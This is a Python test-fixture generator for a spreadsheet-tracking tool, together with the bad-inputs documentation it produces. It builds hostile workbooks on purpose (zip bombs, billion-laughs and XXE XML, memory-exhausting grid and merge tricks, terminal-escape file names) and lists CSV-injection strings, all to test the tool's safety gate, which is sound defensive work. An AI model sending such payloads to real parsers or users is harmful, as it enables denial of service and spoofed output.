        learner_xlsx(6, **NON_LATIN), xl__workbook_xml=lambda x: _rename_sheet(x, "Unit 3", "Μονάδα 3 — 単位"))
    files["learner_macros.xlsm"] = _add_macros(base)
    files["openpyxl_saved.xlsx"] = _with_openpyxl(base)
    return files


# --------------------------------------------------------------------------------------------
# Round 2 (issue 12): what the parser trusts, numbers it cannot convert, memory it cannot have
# --------------------------------------------------------------------------------------------


def _sheet(rows: str, head: str = "", tail: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{_MAIN_NS}">'
            f"{head}<sheetData>{rows}</sheetData>{tail}</worksheet>").encode()


#: sheets that made python-calamine abort, wrap round, or allocate gigabytes (each one legal in
#: the respects the first gate looked at: few rows, a small file)
GRID_TRICKS = {
    # one cell claims row 1,048,576 while sitting in row 1: a 1,048,576-row grid per column
    "cell_below_its_row.xlsx": _sheet('<row r="1"><c r="A1"><v>1</v></c><c r="N1048576"><v>1</v></c></row>'),
    # two cells, both in legal rows: A1 and XFD20000 -> 20,000 x 16,384 cells (10 GB, then abort)
    "sparse_sheet.xlsx": _sheet('<row r="1"><c r="A1"><v>1</v></c></row>'
                                '<row r="20000"><c r="XFD20000"><v>1</v></c></row>'),
    "column_beyond_xfd.xlsx": _sheet('<row r="1"><c r="A1"><v>1</v></c><c r="XFE1"><v>1</v></c></row>'),
    # 2**32 + 1: a 32-bit row number wraps round to row 1, so the cell would land on another
    "row_number_wraps.xlsx": _sheet('<row r="1"><c r="A4294967297"><v>1</v></c></row>'),
    "bad_dimension.xlsx": _sheet('<row r="1"><c r="A1"><v>1</v></c></row>', head='<dimension ref="A1:XFD1048577"/>'),
    # openpyxl (--mark) makes one object per merged cell: 327 million
    "merge_bomb.xlsx": _sheet('<row r="1"><c r="A1"><v>1</v></c></row>',
                              tail='<mergeCells count="1"><mergeCell ref="A1:XFD20000"/></mergeCells>'),
}


def shared_string_bomb() -> bytes:
    """A workbook the gate lets through (200 x 200 cells, 90 KB) whose cells all name one
    50,000-character shared string: the parser copies it per cell, about 4 GB."""
    from tracker.workbook.layout import col_letter

    base = small_xlsx()
    sst = _members(base)["xl/sharedStrings.xml"].decode()
    index = sst.count("<si>")
    sst = sst.replace("</sst>", f"<si><t>{'x' * 50_000}</t></si></sst>")
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{col_letter(c)}{r}" t="s"><v>{index}</v></c>'
                                             for c in range(200)) + "</row>" for r in range(1, 201))
    return _rezip(base, replace={"xl/worksheets/sheet2.xml": _sheet(rows), "xl/sharedStrings.xml": sst.encode()})


def strict_xlsx(xlsx: bytes) -> bytes:
    """The same workbook in Strict Open XML (ISO/IEC 29500 strict namespaces), as Excel's "Strict
    Open XML Spreadsheet" saves it."""
    pairs = [(_MAIN_NS, "http://purl.oclc.org/ooxml/spreadsheetml/main"),
             ("http://schemas.openxmlformats.org/officeDocument/2006/relationships",
              "http://purl.oclc.org/ooxml/officeDocument/relationships")]
    members = _members(xlsx)
    for name, data in members.items():
        if name.endswith((".xml", ".rels")):
            text = data.decode("utf-8")
            for a, b in pairs:
                text = text.replace(a, b)
            members[name] = text.encode("utf-8")
    return _zip_of(members)


def _other_qualification_metadata(wb: object) -> None:
    """The hidden metadata says Level 3 while the cover (and everything else) is Level 2."""
    from tracker.spec.catalogue import load_qualification

    from tracker.workbook import layout as L

    l3 = load_qualification("603/4688/7")
    ws = wb[L.META]  # type: ignore[index]
    for row in ws.iter_rows():
        if row[0].value == "spec_number":
            row[1].value = l3.number
        elif row[0].value == "spec_id":
            row[1].value = l3.id


def round2_corpus() -> dict[str, bytes]:
    """The files of issue 12 (see GRID_TRICKS and the functions above)."""
    base = small_xlsx()
    files = {name: _rezip(base, replace={"xl/worksheets/sheet2.xml": xml}) for name, xml in GRID_TRICKS.items()}
    files["shared_string_bomb.xlsx"] = shared_string_bomb()
    learner = learner_xlsx()
    r, col = UNIT1_FIRST_ROW, COLUMN
    unit1 = UNIT1_PART.replace("/", "__").replace(".", "_")

    def extreme_dates(x: str) -> str:  # style 17: the writer's date format
        f, i = col["evidence_date"], col["assessor_date"]
        x = set_cell(x, f"{f}{r}", f'<c r="{f}{r}" s="17"><v>-1e20</v></c>')  # a Rust panic in calamine
        return set_cell(x, f"{i}{r}", f'<c r="{i}{r}" s="17"><v>-5</v></c>')  # no date: Excel shows ####

    def special_numbers(x: str) -> str:  # style 16: text cells
        n, g = col["comments"], col["decision"]
        x = set_cell(x, f"{n}{r}", f'<c r="{n}{r}" s="16"><v>NaN</v></c>')
        return set_cell(x, f"{g}{r + 1}", f'<c r="{g}{r + 1}" s="16"><v>1E+300</v></c>')

    files["date_extreme_numbers.xlsx"] = _edit_parts(learner, **{unit1: extreme_dates})
    files["special_numbers.xlsx"] = _edit_parts(learner, **{unit1: special_numbers})
    files["strict_open_xml.xlsx"] = strict_xlsx(learner)
    files["metadata_other_qualification.xlsx"] = _with_openpyxl(learner, _other_qualification_metadata)
    files["control_characters.xlsx"] = learner_xlsx(10, name="Jo \x1b[2K\rAll files OK\x07")
    return files


def make_corpus(folder: Path) -> dict[str, Path]:
    """Write every corpus file into ``folder`` (created if needed); return name -> path."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    base = small_xlsx()
    files: dict[str, bytes | None] = {}

    files["normal.xlsx"] = base
    files["empty.xlsx"] = b""
    rng = random.Random(20240101)
    files["random.xlsx"] = b"\x8f" + rng.randbytes(4095)  # first byte: surely no known magic
    files["truncated.xlsx"] = base[: len(base) // 2]
    files["biff.xlsx"] = cfb({"Workbook": biff8_workbook_stream()})
    files["ods.xlsx"] = minimal_ods()
    files["csv.xlsx"] = (
        "Ref,Assessment criterion,Evidence refs,Method,Decision\r\n"
        "K1.1,Explain the principles of customer service,E1,Worksheet,Met\r\n"
        "S2.1,Deal with customers' requests,E2,Observation,Not yet met\r\n"
    ).encode("utf-8")
    files["html.xlsx"] = (
        b"<html><head><meta charset='utf-8'></head><body><table><tr><td>Ref</td></tr></table>"
        b"</body></html>"
    )
    files["docx.xlsx"] = _plain_zip({
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
    })
    files["plain.zip.xlsx"] = _plain_zip({"notes.txt": b"evidence photos to follow\n"})
    files["encrypted.xlsx"] = encrypt_xlsx(base, "secret")
    files["zipbomb.xlsx"] = _raw_zip(_deflated_members_of(base) + [_zeros_member("xl/media/zeros.bin", 1024 * _MiB)])
    # A smaller bomb that stays under the total limit but not under the ratio limit.
    files["ratio_bomb.xlsx"] = _raw_zip(_deflated_members_of(base) + [_zeros_member("xl/media/zeros.bin", 64 * _MiB)])
    # A member declaring 1000 bytes (with the CRC of its first 1000 bytes) that inflates to 64 MiB.
    files["lying_size.xlsx"] = _raw_zip(
        _deflated_members_of(base) + [_zeros_member("xl/media/zeros.bin", 64 * _MiB, declared=1000, crc_of=1000)]
    )
    # A member whose sizes look plausible (100,000 bytes declared, 65 KB compressed) but which
    # inflates to 64 MiB: only a reader that stops at the declared size, or refuses, is safe.
    files["lying_stream.xlsx"] = _raw_zip(
        _deflated_members_of(base)
        + [_zeros_member("xl/media/zeros.bin", 64 * _MiB, declared=100_000, crc_of=100_000)]
    )
    files["billion_laughs.xlsx"] = _rezip(base, replace={"xl/sharedStrings.xml": BILLION_LAUGHS_SST})
    files["xxe.xlsx"] = _rezip(base, replace={"xl/worksheets/sheet1.xml": XXE_SHEET})
    files["utf16_doctype.xlsx"] = _rezip(base, replace={"xl/worksheets/sheet1.xml": UTF16_DOCTYPE_SHEET})
    files["utf7.xlsx"] = _rezip(base, replace={"xl/worksheets/sheet1.xml": UTF7_SHEET})
    files["huge_rows.xlsx"] = _rezip(base, replace={"xl/worksheets/sheet2.xml": HUGE_ROWS_SHEET})
    files["missing_sheet.xlsx"] = _with_missing_sheet(base)
    files["macros.xlsm"] = small_xlsx(vba_project=cfb({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'}))
    files.update(learner_corpus())
    files.update(round2_corpus())

    paths: dict[str, Path] = {}
    for name, data in files.items():
        path = folder / name
        path.write_bytes(data or b"")
        paths[name] = path
    return paths



# --------------------------------------------------------------------------------------------
# docs/bad-inputs.md, generated from the corpus and what the tool really says about each file
# --------------------------------------------------------------------------------------------

_DOC_HEAD = """# Bad inputs: what tracker does with them

Generated by `tests/corpus/make_corpus.py --doc docs/bad-inputs.md` from the corpus of bad
files (`tests/corpus/make_corpus.py`, expected outcomes in `tests/corpus/expected.yaml`) and
what the tool really reports for each; `tests/test_bad_inputs.py` fails when this page is out
of date, and checks every file through `python -m tracker validate` and `tracker rollup`.

Assessors' files are untrusted data. Before any parser sees a returned file, the safety gate
(`tracker/workbook/safety.py`) checks it in bounded time and memory: what kind of file it
really is, zip sizes and ratios (zip bombs), XML entity declarations (billion laughs, external
entities), unusual text encodings, the CRC of every part, the number of rows, and what the parser
will trust (`tracker/workbook/gridscan.py`): every cell reference inside Excel's grid (A1 to
XFD1048576) and in the row it is written in, the dimension and merged ranges valid, the cells a
parser must allocate (rows x columns, A1 to the furthest cell) under 2 million, and numbers it
cannot convert (NaN, infinity, 15 digits or more, or no date in a date cell) left out and
reported at their cell (`value-number-invalid`). Workbooks are then read with python-calamine,
which reads cached values only: formulas are never evaluated, macros never run, in a **worker
process** with a memory limit (1 GB of address space) and a time limit (60 s) per file
(`tracker/isolation.py`): a file that still makes the parser abort, run out of memory or hang is
one clear error for that file (quarantined in a roll-up) and every other file goes on.
openpyxl is only used with defusedxml installed. Anything written into the master that came from
a learner file is written as text (a name such as `=HYPERLINK(...)` or `+cmd|...` stays text),
and no file tracker writes keeps a VBA project.

**Counts:** {total} inputs tried; {clear} clear messages naming the file (and sheet and cell
where known); 0 tracebacks; 0 crashes (no command died; the one file that exhausts a worker's
memory is reported as such); {refused} files refused before parsing, {checked} read and checked.
`tracker rollup` over all of them: {merged} merged, {quarantined} quarantined (moved to
`quarantine/` with a `.why.txt` note, listed on the master's Issues sheet), {skipped} left in the
inbox for the next roll-up, the master written. Beyond these files, the inbox, lock, ledger, name
and output drills below: {drills} more, each with its message.

## `tracker validate FILE` and `tracker rollup`

Messages are shown as `tracker validate` prints them (the file name is in the report's heading,
and in the message itself for files that cannot be read). Exit code 1 means errors were found.
Information lines about progress (`completion-*` info) are left out.

| File | What it is | `tracker validate` | `tracker rollup` |
| --- | --- | --- | --- |
"""

_DOC_TAIL = """
## Faults during a roll-up

Checked by `tests/test_faults.py` (killing the roll-up at each checkpoint is in the roll-up's own
tests): in every case the previous master stays intact (the same bytes) and readable, the
ledger passes `PRAGMA integrity_check`, the returned file stays in the inbox, and a roll-up once
the fault is gone merges it.

| Fault | What tracker does |
| --- | --- |
| the disk fills up while a returned file is copied into the archive (simulated with a file-size limit: `EFBIG`) | stops: `tracker: cannot copy .../inbox/b.xlsx into the archive: File too large` |
| the disk fills up while the master is written | stops: `tracker: cannot write the master workbook next to .../master.xlsx: File too large. Nothing was changed: the ledger and the master are as they were. If the disk is out of space, free some; then roll up again.` |
| the disk fills up while the ledger is written | stops: `tracker: the ledger .../ledger.sqlite could not be updated (disk I/O error); it was left as it was. ...` |
| the centre folder is read-only | refuses: `tracker: cannot use the centre folder ...: Permission denied (.tracker-rollup.lock); is the folder read-only to you, or the disk full? Nothing was changed.` |
| the master is open in Excel (`~$master.xlsx`) or LibreOffice (`.~lock.master.xlsx#`) | refuses before touching anything: the master is open in Excel or another program; close it and roll up again (or delete the owner file a crash left behind) |
| two roll-ups at once on the same centre | the second refuses at once: another roll-up is already running (naming the user, host and process) and changes nothing; the first, even when then killed, leaves a sound ledger and a whole master |

## Round 2: the inbox, the lock, the ledger, names, marks and exports

Checked by `tests/test_centre_hostile.py`, `tests/test_names.py`, `tests/test_marks.py`,
`tests/test_export.py`, `tests/test_isolation.py` and the drills above. In every roll-up case the
good files beside the bad one are merged.

| Drill | What tracker does |
| --- | --- |
| a named pipe (FIFO) in the inbox | listed, never opened (opening one waited for ever, holding the lock): `skipped fifo.xlsx: it is a named pipe, not an ordinary file, so it was not opened` |
| a symbolic link to `/dev/zero`, or to a system file such as `/etc/passwd` | never followed (one copied until the disk was full, the other put the system file in the archive): `skipped zero.xlsx: it is a link to another file, which tracker does not follow (it could point anywhere); put the workbook itself in the inbox` |
| a socket, or a device | `skipped sock.xlsx: it is a socket, not an ordinary file, so it was not opened` |
| a folder named `x.xlsx` | `skipped x.xlsx: it is a folder named like a workbook, not a workbook; put the workbook file itself in the inbox` |
| a file still being copied in: empty and written in the last two minutes, or growing while it is read | left where it is for the next roll-up (it used to be quarantined as "empty" and never retried): `skipped part.xlsx: left for the next roll-up: it is empty and was written moments ago, so it is probably still being copied in` |
| a quarantined file moved back into the inbox once its cause is fixed | tried again, and merged |
| the quarantine folder on another file system | moved into by copy, flush, rename, then delete (it used to stay in the inbox) |
| a file name near the 255-byte limit | archived and quarantined; its `.why.txt` note is shortened to fit (it used to fail) |
| a file name that is not UTF-8 | validated, archived, quarantined, recorded as readable text (`caf\\xe9.xlsx`); JSON keeps the exact name (it used to give a traceback on every roll-up) |
| terminal escape sequences, carriage returns or direction overrides in a file name or a cell | shown escaped (`\\x1b[2K\\x0d`), so they cannot rewrite the terminal or fake an "OK" line |
| `kill -9` of a roll-up at a random moment (its workers not signalled) | the workers die with it; the next roll-up starts at once and ends where an uninterrupted one does (the workers used to keep the lock for a minute or more) |
| the lock file deleted by hand while a roll-up runs | the running roll-up stops before its commit, changing nothing: `the roll-up's lock file ... was deleted or replaced while it ran, so another roll-up may have started; this one stopped before changing anything` |
| no free byte at all (a 1-byte file-size limit) | `tracker: cannot copy .../inbox/b.xlsx into the archive: File too large` (the lock code used to give a traceback) |
| a damaged ledger (`tracker conflicts`, `export`, `resolve`, `rollup`) | `tracker: the ledger .../ledger.sqlite is corrupt (database disk image is malformed); nothing was changed. Run `tracker rebuild DIR` to rebuild it from the archive` (it used to be a sqlite traceback in `conflicts` and `export`, and "free some space" from the roll-up); a ledger failing while in use is said as what it is: damaged, disk full, read-only or in use by another program |
| `validate --mark` on a Strict Open XML workbook | refused, the file byte for byte unchanged: `not marked: it is saved as Strict Open XML, which tracker cannot rewrite without losing its contents ...` (it used to be replaced by an empty workbook) |
| `validate --mark` where saving would change a value (a formula whose cached result openpyxl drops) | refused, the file unchanged: `not marked: marking would change what the workbook holds (Unit 1!F12: 45570 would become blank); the file was not changed` |
| `validate --mark` with control characters in cells | marked; the characters are shown as `\\x01` in the Validation sheet and notes (it used to be a traceback) |
| `tracker export --format csv` with a learner named `=HYPERLINK(...)`, `+cmd\\|...`, `-2+3`, `@SUM(...)` | written as `'=HYPERLINK(...)` etc. so Excel shows text (OWASP CSV injection); `--raw` writes the text exactly |

## Fuzzing

`tests/test_fuzz.py` mutates valid learner workbooks with hypothesis, both as files (openpyxl:
cell values of every type including formulas and error texts, sheet renames and deletions, row
deletions, duplications and swaps, header edits) and, many more times, as grids of values
(`read_grids`): the reader and the validator either succeed, reporting issues, or raise
`UnreadableWorkbook` -- never anything else.
"""


def _md(text: str) -> str:
    return " ".join(str(text).split()).replace("|", "\\|")


def _doc_messages(task: object) -> list[str]:
    lines = []
    for issue in task.issues:  # type: ignore[attr-defined]
        if issue.severity.value == "info" and issue.code.startswith("completion-"):
            continue
        where = f"{issue.sheet}!{issue.cell}" if issue.sheet and issue.cell else (issue.sheet or "")
        label = issue.severity.value.upper()
        lines.append(f"{label}{' ' + where if where else ''}: {issue.message} `[{issue.code}]`")
    return lines


def render_doc(files: dict[str, Path]) -> str:
    """The text of docs/bad-inputs.md for the corpus files in ``files`` (name -> path)."""
    import datetime as dt
    import shutil
    import tempfile

    import yaml

    from tracker.centre import init_centre, rollup
    from tracker.rules.engine import validate_paths

    expected = yaml.safe_load((Path(__file__).parent / "expected.yaml").read_text("utf-8"))
    today = dt.date(2025, 6, 30)
    rows = []
    with tempfile.TemporaryDirectory() as d:
        centre, _ = init_centre(Path(d) / "centre", name="Doc Centre")
        for name, path in files.items():
            shutil.copy(path, centre.inbox / name)
        result = rollup(centre, workers=1, today=today)
        rolled = {f.name: f for f in result.files}
    counts = {"clear": 0, "refused": 0, "merged": 0, "quarantined": 0, "skipped": 0}
    for name in expected:
        [task] = validate_paths([files[name]], today=today).tasks  # in a worker, as the command does
        messages = _doc_messages(task)
        errors = sum(1 for i in task.issues if i.severity.value == "error")
        if expected[name]["outcome"] == "refused":
            counts["refused"] += 1
        counts["clear"] += 1
        exit_code = 1 if errors else 0
        shown = "<br>".join(_md(m) for m in messages) if messages else "no problem found"
        validate = f"exit {exit_code}: {shown}"
        f = rolled[name]
        counts[f.outcome] = counts.get(f.outcome, 0) + 1
        roll = f"{f.outcome}: {_md(f.reason)}" if f.outcome in ("quarantined", "skipped") else f.outcome
        rows.append(f"| `{name}` | {_md(expected[name]['what'])} | {validate} | {roll} |")
    head = _DOC_HEAD.format(total=len(expected), clear=counts["clear"], refused=counts["refused"],
                            checked=len(expected) - counts["refused"], merged=counts["merged"],
                            quarantined=counts["quarantined"], skipped=counts["skipped"],
                            drills=_DOC_TAIL.count("\n| ") - _DOC_TAIL.count("\n| Fault |") - _DOC_TAIL.count("\n| Drill |")
                            - _DOC_TAIL.count("\n| --- |"))
    return head + "\n".join(rows) + "\n" + _DOC_TAIL


if __name__ == "__main__":  # pragma: no cover
    args = sys.argv[1:]
    if args[:1] == ["--doc"]:
        import tempfile

        out = Path(args[1] if len(args) > 1 else "docs/bad-inputs.md")
        with tempfile.TemporaryDirectory() as tmp:
            out.write_text(render_doc(make_corpus(Path(tmp))), "utf-8")
        print(out)
    else:
        target = Path(args[0] if args else "corpus-out")
        for written in make_corpus(target).values():
            print(written)
